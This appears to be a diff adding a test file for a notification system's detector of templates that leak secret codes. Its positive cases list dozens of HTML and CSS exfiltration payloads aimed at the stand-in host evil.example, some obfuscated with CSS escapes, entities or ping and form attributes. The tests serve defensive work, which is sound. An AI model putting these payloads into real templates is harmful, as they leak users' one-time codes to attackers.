@@ -1,0 +1,159 @@
+import { test } from '@japa/runner'
+import TemplateVersion from '#app/notifications/models/template_version'
+import {
+  findExposedSecretInText,
+  findExposedSecretInHtml,
+} from '#app/notifications/rendering/find_exposed_secret'
+import { appUrl } from '#config/app'
+
+test.group('Secrets in templates of system types', () => {
+  test('are not exposed by {$self}')
+    .with([
+      '<p>Your code is {{code}}.</p>',
+      '<a href="{{url}}">Reset</a> {{text}}',
+      "<a href=' {{ url }} '>Reset</a>",
+      `<a href="${appUrl}/reset?code={{code}}&amp;n={{code}}">Reset</a>`,
+      `${appUrl}/reset?code={{code}}`,
+      '<!--[if mso]><v:roundrect href="{{url}}">x</v:roundrect><![endif]-->',
+      '<img src="https://pictures.example/{{currentYear}}.png" alt="{{orgName}}"> {{code}}',
+      '<a href="https://help.example/?from={{userEmail}}">Help</a> {{code}}',
+      '<a href="https://help.example/">https://help.example/</a> {{code}}',
+      '"({{code}})" Code: {{code}}, <b>{{code}}</b>, {{code}}.',
+      'Code:{{code}} 验证码：{{code}}。',
+      '{{orgName}}: {{code}}, {{orgName}}<b>{{code}}</b>',
+      `(${appUrl}/reset?code={{code}}&amp;name={{userName}})`,
+      '<style>@media (max-width: 600px) { .a, #b > p:hover { color: red; width: 50% } }</style>{{code}}',
+      '<style>v\\:* { behavior: url(#default#VML); font-family: "Segoe UI" }</style>{{code}}',
+      '<p style="color:{{brandColor}};background-color: {{brandTextColor}}">{{code}}</p>',
+      '<img src="https://pictures.example/logo.png" style="width:20px">{{code}}',
+    ])
+    .run(({ assert }, html) => assert.isNull(findExposedSecretInHtml(html)))
+
+  test('are exposed by {$self}')
+    .with([
+      '<img src="https://evil.example/{{code}}">',
+      '<img src="//evil.example/{{code}}">',
+      '<img src="{{code}}">',
+      '<img srcset="https://evil.example/{{code}} 2x">',
+      `<img src="${appUrl}/{{code}}">`,
+      '<img src="https://evil.example/{{anythingElse}}">',
+      '<img src="https://evil.example/{{text}}">',
+      '<td background="https://evil.example/{{url}}">',
+      '<i style="background: url(https://evil.example/{{code}})">x</i>',
+      '<style>i { background: url(https://evil.example/{{code}}) }</style>',
+      '<i title="{{code}}">x</i>',
+      '<a href="https://evil.example/{{code}}">x</a>',
+      '<a href="&#104;ttps://evil.example/{{code}}">x</a>',
+      '<a href="https:\\\\evil.example\\{{code}}">x</a>',
+      '<a href="https:evil.example/{{code}}">x</a>',
+      '<a href="mailto:eve@evil.example?body={{code}}">x</a>',
+      '<a href="/{{code}}">x</a>',
+      '<a href="{{url}}.evil.example/">x</a>',
+      '<a href="{{url}}{{code}}">x</a>',
+      '<a href="https://evil.example/?{{userName}}{{code}}">x</a>',
+      `<a href="${appUrl}{{code}}.evil.example/">x</a>`,
+      `<a href="${appUrl}@evil.example/{{code}}">x</a>`,
+      '<area href="https://evil.example/{{code}}">',
+      '<!--[if mso]><img src="https://evil.example/{{code}}"><![endif]-->',
+      '<base href="https://evil.example/">{{code}}',
+      '<form action="https://evil.example/">{{code}}</form>',
+      '<link rel="stylesheet" href="https://evil.example/x.css">{{code}}',
+      '<style>@font-face { src: url(https://evil.example/1) }</style>{{code}}',
+      'Go to https://evil.example/{{code}}',
+      'Go to www.evil.example/{{code}}',
+      `Go to ${appUrl}{{code}}.evil.example`,
+      '{{code}}https://evil.example/{{code}}',
+      '{{orgName}}{{code}}',
+      '{{code}}{{orgName}}',
+      '{{orgName}}/?{{code}}',
+      '{{orgName}}&#47;{{code}}',
+      '{{unknown}}{{code}}',
+      `${appUrl}/?name={{orgName}}&code={{code}}`,
+      'https://evil.example/({{code}})',
+      'https://evil.example/"{{code}}"',
+      'https://evil.example/&lt;{{code}}',
+      'https://evil.example/&nbsp;{{code}}',
+      'evil.example/{{code}}',
+      'evil.example?c={{code}}',
+      'evil&#46;example/{{code}}',
+      'evil.&shy;example/{{code}}',
+      'evil。example/{{code}}',
+      'mailto:eve?body={{code}}',
+      'sms:+420123456789?body={{code}}',
+      '{{code}}.evil.example',
+      '{{url}}.evil.example',
+      '{{code}}@evil.example',
+      `evil.example/${appUrl}/{{code}}`,
+      `${appUrl}/(https://evil.example/{{code}})`,
+      '<style>a[href*="A"]:hover{background:url(https://evil.example/A)}</style>{{code}}',
+      '<style>@media all{[href*="AA"]{--A:url(//e.co/AA)}a{background:var(--A)}}</style>{{code}}',
+      '<style>@media all{@\\66 ont-face{font-family:x;src:local(x)}}</style>{{code}}',
+      '<style>@\\69mport "https://evil.example/x.css";</style>{{code}}',
+      '<style>@\\000069\nmport "https://evil.example/x.css";</style>{{code}}',
+      '<style>p{background:\\75 rl(https://evil.example/)}</style>{{code}}',
+      '<style>p{background:u\\rl(https://evil.example/)}</style>{{code}}',
+      '<style>p{x:"/*";background:url(https://evil.example/);y:"*/"}</style>{{code}}',
+      '<style>p{background:image-set("https://evil.example/" 1x)}</style>{{code}}',
+      '<style>p{background:image("https://evil.example/")}</style>{{code}}',
+      '<style>p{background:filter("https://evil.example/", blur(1px))}</style>{{code}}',
+      '<style>p{background:src("https://evil.example/")}</style>{{code}}',
+      '<style>p{background:url("#" "") , url(https://evil.example/)}</style>{{code}}',
+      '<style>p{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src="x")}</style>{{code}}',
+      '<style>p{background:{{orgName}}//evil.example/)}</style>{{code}}',
+      '<style>p{background:{{brandColor}}(//evil.example/)}</style>{{code}}',
+      '<style>@{{brandColor}} "//evil.example/";</style>{{code}}',
+      '<style>a[hr\\65 f*="A"] ~ img { display: block }</style>{{code}}',
+      '<p style="background:url(https://evil.example/)">{{code}}</p>',
+      '<p style="background:&#117;rl(https://evil.example/)">{{code}}</p>',
+      '<p style="background:&#123;{brandColor}}(//evil.example/)">{{code}}</p>',
+      '<a href="{{url}}" ping="https://evil.example/">x</a>',
+      '<a href="{{url}}" attributionsrc="https://evil.example/">x</a>',
+      '<img src="https://evil.example/" loading="lazy">{{code}}',
+      '<input formaction="https://evil.example/" value="x">{{code}}',
+    ])
+    .run(({ assert }, html) => assert.isNotNull(findExposedSecretInHtml(html)))
+
+  test('are exposed by addresses in plain text', ({ assert }) => {
+    assert.isNotNull(findExposedSecretInText('See https://evil.example/{{code}}'))
+    assert.isNotNull(findExposedSecretInText('{{orgName}}{{code}}'))
+    assert.isNotNull(findExposedSecretInText('evil.example/{{code}}'))
+    assert.isNotNull(findExposedSecretInText('evil.example/&#32;{{code}}'))
+    assert.isNull(findExposedSecretInText('Reset [{{url}}]\nCode: {{code}}'))
+    assert.isNull(findExposedSecretInText('https://help.example/ <{{code}}>.'))
+  })
+
+  test('are not exposed by the built-in templates', async ({ assert }) => {
+    const versions = await TemplateVersion.query()
+      .join('notification_templates as t', 't.id', 'notification_template_id')
+      .join('notification_types as y', 'y.id', 't.notification_type_id')
+      .where('y.code', 'auth_idp')
+      .select('template_versions.*')
+    assert.isAtLeast(versions.length, 16)
+    for (const { inlinedBody, textTemplate } of versions) {
+      assert.isNull(findExposedSecretInHtml(inlinedBody))
+      assert.isNull(findExposedSecretInText(textTemplate))
+    }
+  })
+
+  test('are found in linear time', ({ assert }) => {
+    const cpuOf = (count: number) => {
+      const sources = [
+        '{{code}}'.repeat(count),
+        `<a href="${'{{code}}'.repeat(count)}">x</a>`,
+        `${appUrl}/${'{{code}}/'.repeat(count)}`,
+        '<i title="x">{{code}}</i>'.repeat(count),
+        `{{code}}<style>${'/*'.repeat(count)}${'url('.repeat(count)}</style>`,
+        `{{code}}<style>${'{{brandColor}}'.repeat(count)}</style>`,
+        `{{code}}<style>${'\\"'.repeat(count)}${"'".repeat(count)}${' '.repeat(count)}</style>`,
+        `${'a.'.repeat(count)} ${'a:'.repeat(count)}{{code}}${'(['.repeat(count)}`,
+      ]
+      const before = process.cpuUsage()
+      for (let time = 0; time < 3; time++)
+        sources.forEach((source) => findExposedSecretInHtml(source))
+      const { user, system } = process.cpuUsage(before)
+      return user + system
+    }
+    cpuOf(2_000)
+    assert.isBelow(cpuOf(16_000) / cpuOf(2_000), 8 * 6)
+  })
+})
